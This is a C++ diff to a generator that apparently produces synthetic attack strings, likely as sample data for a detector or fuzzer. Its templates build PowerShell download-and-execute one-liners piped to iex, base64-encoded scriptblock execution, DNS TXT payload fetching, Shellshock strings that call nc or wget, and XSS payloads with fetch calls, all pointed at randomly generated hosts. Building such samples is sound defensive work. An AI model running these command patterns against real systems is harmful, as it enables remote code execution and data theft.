@@ -19,7 +19,7 @@ std::string Stem(Rng& rng) {
 std::string DropUrl(Rng& rng, const char* ending) {
   std::string url = rng.Chance(75) ? "http://" : "https://";
   url += rng.Chance(40) ? Ipv4(rng) : HostName(rng);
-  if (rng.Chance(45)) url += Concat({":", rng.Pick({"8080", "443", "2351", "8000", "4443"})});
+  if (rng.Chance(45)) url += Concat({":", rng.Pick({"8000", "8888", "9001", "4455", "81"})});
   return Concat({url, "/", Stem(rng), ending});
 }
 
@@ -41,9 +41,8 @@ std::string PowerShell(Rng& rng) {
       return Concat({caller, rng.Pick({"iwr ", "irm ", "Invoke-WebRequest -UseBasicParsing "}),
                      DropUrl(rng, rng.Pick({".ps1", "", ".txt"})), rng.Pick({"|iex", " | IEX"})});
     case 3:
-      return Concat({"$s='", Base64Encode(Sentence(rng, 4)),
-                     "';$b=[Convert]::FromBase64String($s);",
-                     "[Text.Encoding]::UTF8.GetString($b)|iex"});
+      return Concat({"&([scriptblock]::Create([Text.Encoding]::ASCII.GetString([Convert]::",
+                     "FromBase64String('", Base64Encode(Sentence(rng, 4)), "'))))"});
     case 4:
       return Concat({"powershell (nslookup -q=txt ", HostName(rng), ")[-1]"});
     default:
@@ -77,7 +76,7 @@ std::string WindowsTool(Rng& rng) {
     case 7:
       return Concat({"wmic process call create \"", name, ".exe\""});
     default:
-      return Concat({"cmd=download;url=", DropUrl(rng, ""), ";path=%APPDATA%\\", name, ".dat"});
+      return Concat({"task=get&src=", DropUrl(rng, ""), "&dst=%LOCALAPPDATA%\\", name});
   }
 }
 
@@ -132,8 +131,9 @@ Draft ExploitString(Rng& rng) {
                       Stem(rng), "}"}),
               ""};
     case 1:
-      return {Concat({"() { :; }; /bin/", rng.Pick({"ping -c 3 ", "bash -c 'nc "}), Ipv4(rng)}),
-              ""};
+      return {
+          Concat({"() { :; }; /bin/", rng.Pick({"wget -q http://", "bash -c 'nc "}), Ipv4(rng)}),
+          ""};
     case 2:
       return {
           Concat({"<img src=x onerror=", rng.Pick({"alert(1)", "fetch('//"}), HostName(rng), ">"}),
